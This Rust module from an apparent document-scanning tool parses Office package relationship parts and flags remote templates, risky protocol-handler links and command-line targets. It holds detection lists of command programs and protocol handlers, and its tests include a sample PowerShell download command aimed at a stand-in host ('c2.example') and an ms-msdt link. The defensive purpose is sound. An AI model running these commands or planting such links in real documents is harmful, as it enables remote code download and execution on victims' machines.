//! Relations of a package to the world outside it (ECMA-376 part 2, 6.5): links that wait for a click, and parts
//! that Office fetches when it opens the document.

use super::Part;
use super::fields::attribute;
use super::types::plain;
use crate::examine::Walk;
use crate::rtf::tell_external;
use crate::text::decode_text;
use crate::{rules, unfold};
use quick_xml::events::{BytesStart, Event};
use quick_xml::reader::Reader;
use strongroom_model::{Finding, Gap, Observable, Report, Role, Span, Why};

/// Relations whose target is fetched on opening, with nobody asked.
const FETCHED: [&str; 6] = [
    "attachedtemplate",
    "oleobject",
    "frame",
    "subdocument",
    "afchunk",
    "control",
];

/// Programs of the system whose name begins a command.
const COMMANDS: [&str; 9] = [
    "powershell",
    "pwsh",
    "cmd",
    "mshta",
    "wscript",
    "cscript",
    "rundll32",
    "regsvr32",
    "certutil",
];

/// Protocols whose handler is a program with a past of faults.
const HANDLERS: [&str; 6] = [
    "ms-msdt:",
    "search-ms:",
    "ms-search:",
    "ms-officecmd:",
    "ms-appinstaller:",
    "vbscript:",
];

/// Reads a `.rels` part, and returns the parts that their relation tells more of than their name.
pub(super) fn read_relations(
    bytes: &[u8],
    name: &str,
    report: &mut Report,
    walk: &mut Walk<'_>,
) -> Vec<(String, Part)> {
    let mut parts = Vec::new();
    let text = decode_text(bytes);
    let mut reader = Reader::from_str(&text);
    loop {
        match reader.read_event() {
            Ok(Event::Start(tag) | Event::Empty(tag)) if tag.local_name().as_ref() == "Relationship" => {
                if let Some((part, target)) = inner(&tag, name) {
                    parts.push((target, part));
                }
                relation(&tag, name, report, walk);
            }
            Ok(Event::Eof) => return parts,
            // Office opens no package with a document type, and what its entities spell is not read here.
            Ok(Event::DocType(_)) => {
                report.gap(
                    Gap::new(
                        name,
                        Why::Unsupported,
                        "its document type and entities are not read",
                    )
                    .harmless(),
                );
            }
            Ok(_) => {}
            Err(error) => {
                report.gap(Gap::new(name, Why::Damaged, error));
                return parts;
            }
        }
    }
}

/// Returns the part inside the package that a relation leads to, where it is one that must be read, and what it is.
fn inner(tag: &BytesStart<'_>, name: &str) -> Option<(Part, String)> {
    let kind = attribute(tag, "Type")?.to_ascii_lowercase();
    let part = match kind.rsplit('/').next()? {
        "afchunk" | "oleobject" | "package" | "activexcontrolbinary" | "attachedtoolbars" | "subdocument" => {
            Part::Embedded
        }
        "vbaproject" => Part::Project,
        "control" => Part::Control,
        // A macro sheet is one by its relation, whatever its part is called.
        "xlmacrosheet" | "xlintlmacrosheet" => Part::MacroSheet,
        "extensibility" => Part::Ribbon,
        _ => return None,
    };
    let target = attribute(tag, "Target")?;
    if attribute(tag, "TargetMode").is_some_and(|mode| mode.eq_ignore_ascii_case("external")) {
        return None;
    }
    Some((part, resolve(name, &target)))
}

/// Returns the name of a part by the name of the `.rels` part and a target, which counts from the folder of the source.
fn resolve(rels: &str, target: &str) -> String {
    let target = target.replace('\\', "/");
    let rels = rels.replace('\\', "/").to_ascii_lowercase();
    let folder = rels.rsplit_once("_rels/").map_or("", |(folder, _)| folder);
    let from = if target.starts_with('/') { "" } else { folder };
    let mut steps: Vec<&str> = Vec::new();
    let whole = format!("{from}{target}");
    for step in whole.split('/').filter(|step| !step.is_empty() && *step != ".") {
        if step == ".." {
            steps.pop();
        } else {
            steps.push(step);
        }
    }
    plain(&steps.join("/"))
}

fn relation(tag: &BytesStart<'_>, name: &str, report: &mut Report, walk: &mut Walk<'_>) {
    let external = attribute(tag, "TargetMode").is_some_and(|mode| mode.eq_ignore_ascii_case("external"));
    let (Some(target), true) = (attribute(tag, "Target"), external) else {
        return;
    };
    let kind = attribute(tag, "Type").unwrap_or_default();
    let kind = kind.rsplit('/').next().unwrap_or_default().to_owned();
    note_target(&kind, &target, name, report, walk);
}

/// Returns the command that a target is: a program of the system with words behind it.
fn command_of(target: &str) -> Option<String> {
    let text = String::from_utf8_lossy(&crate::markup::unescaped(target)).into_owned();
    let bare = text
        .trim()
        .trim_start_matches("file:")
        .trim_start_matches(['/', '\\', '"']);
    let (program, words) = bare.split_once(' ')?;
    let base = program
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(program)
        .to_ascii_lowercase();
    let base = base.trim_end_matches('"').trim_end_matches(".exe");
    (COMMANDS.contains(&base) && !words.trim().is_empty()).then(|| bare.to_owned())
}

/// Tells a target outside the document by the kind of its relation: what is fetched on opening from what waits for a
/// click. `name` is the part that names it.
pub(crate) fn note_target(kind: &str, target: &str, name: &str, report: &mut Report, walk: &mut Walk<'_>) {
    let at = Span::bytes(name, 0, 0);
    let lower = target.trim().to_ascii_lowercase();
    if HANDLERS.iter().any(|handler| lower.contains(handler)) {
        report.find(Finding::of(&rules::PROTOCOL_HANDLER, at.clone()).fact("target", target));
    }
    if let Some(command) = command_of(target) {
        let shown: String = command.chars().take(300).collect();
        report.find(Finding::of(&rules::LINKED_COMMAND, at.clone()).fact("command", shown));
        return unfold::read_started("link", "target", &command, report, walk);
    }
    let fetched = FETCHED.contains(&kind.to_ascii_lowercase().as_str());
    match place_of(target) {
        Place::Web(url) if fetched => tell_external(&url, kind, at, report),
        Place::Web(url) => report.sight(url, Role::Mentioned),
        Place::Share(path) if fetched => {
            let finding = Finding::of(&rules::REMOTE_OBJECT, at)
                .fact("what", kind)
                .fact("url", path.value());
            report.find(finding.observing(&path));
            report.sight(path, Role::Download);
        }
        Place::Share(path) => report.sight(path, Role::Mentioned),
        Place::Here => {}
    }
}

/// Where a target stands.
enum Place {
    /// On the web.
    Web(Observable),
    /// On another machine's share.
    Share(Observable),
    /// On the reader's own machine, or nowhere that could be told.
    Here,
}

fn place_of(target: &str) -> Place {
    let target = target.trim();
    let bare = target
        .strip_prefix("mhtml:")
        .or_else(|| target.strip_prefix("MHTML:"))
        .unwrap_or(target);
    let bare = bare.split('!').next().unwrap_or(bare);
    if let Ok(url) = Observable::url(bare) {
        return Place::Web(url);
    }
    let lower = bare.to_ascii_lowercase();
    let path = lower.strip_prefix("file:").unwrap_or(&lower).replace('/', "\\");
    let host = path.trim_start_matches('\\').split('\\').next().unwrap_or("");
    let share =
        path.starts_with("\\\\") && !path.starts_with("\\\\\\") && !host.is_empty() && !host.contains(':');
    if share && host != "localhost" {
        Place::Share(Observable::path(&path))
    } else {
        Place::Here
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use strongroom_model::{Evidence, Kind, Limits};

    fn read(kind: &str, target: &str) -> Report {
        let text = format!(
            "<Relationships xmlns=\"http://ns.example/\"><Relationship Id=\"r\" Type=\"http://ns.example/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
        );
        let mut report = Report::new(Evidence::of_bytes("a", Kind::Docx, b""));
        let limits = Limits::default();
        read_relations(
            text.as_bytes(),
            "word/_rels/document.xml.rels",
            &mut report,
            &mut Walk::new(&limits),
        );
        report
    }

    #[test]
    fn a_macro_sheet_under_any_name_is_told() {
        let limits = Limits::default();
        let parts = |kind: &str| {
            let text = format!(
                "<Relationships><Relationship Type=\"http://ns.example/{kind}\" Target=\"worksheets/sheet9.xml\"/></Relationships>"
            );
            let mut report = Report::new(Evidence::of_bytes("a", Kind::Xlsm, b""));
            let rels = "xl/_rels/workbook.xml.rels";
            read_relations(text.as_bytes(), rels, &mut report, &mut Walk::new(&limits))
        };
        let told = vec![("xl/worksheets/sheet9.xml".to_owned(), Part::MacroSheet)];
        assert_eq!(parts("xlMacrosheet"), told);
        assert_eq!(parts("xlIntlMacrosheet"), told);
        assert!(parts("worksheet").is_empty());
    }

    #[test]
    fn what_is_fetched_on_opening_is_told_from_a_link() {
        let codes = |report: &Report| {
            report
                .findings
                .iter()
                .map(|finding| finding.code.to_string())
                .collect::<Vec<_>>()
        };
        assert_eq!(
            codes(&read("attachedTemplate", "https://a.example/x.dotm?a=1&amp;b=2")),
            ["files.remote-part"]
        );
        assert_eq!(
            codes(&read("oleObject", "mhtml:http://a.example/x.html!x")),
            ["files.remote-part"]
        );
        assert_eq!(
            codes(&read("oleObject", "file:///\\\\host.example\\share\\x.doc")),
            Vec::<String>::new()
        );
        assert_eq!(
            codes(&read("attachedTemplate", "\\\\192.0.2.1\\share\\x.dotm")),
            ["files.remote-object"]
        );
        assert_eq!(
            codes(&read("hyperlink", "ms-msdt:/id x")),
            ["files.protocol-handler"]
        );
        let link = read("hyperlink", "https://a.example/");
        assert!(link.findings.is_empty());
        assert_eq!(link.observables.len(), 1);
        assert!(read("attachedTemplate", "file:///C:\\x.dot").findings.is_empty());
    }

    #[test]
    fn a_command_as_a_target_is_told_and_followed() {
        let report = read(
            "hyperlink",
            "powershell%20-NoP%20-Command%20%22iwr%20https://c2.example/a%22",
        );
        assert_eq!(report.findings[0].code, "files.linked-command");
        assert!(
            report
                .observables
                .iter()
                .any(|seen| seen.observable.value() == "https://c2.example/a")
        );
    }

    #[test]
    fn targets_are_resolved_as_packages_do() {
        let rels = "word/_rels/document.xml.rels";
        for (target, part) in [
            ("media/a.bin", "word/media/a.bin"),
            ("../X/./A.bin", "x/a.bin"),
            ("/word/a%20b.bin", "word/a b.bin"),
            ("..\\..\\..\\c.bin", "c.bin"),
        ] {
            assert_eq!(resolve(rels, target), part);
        }
    }
}
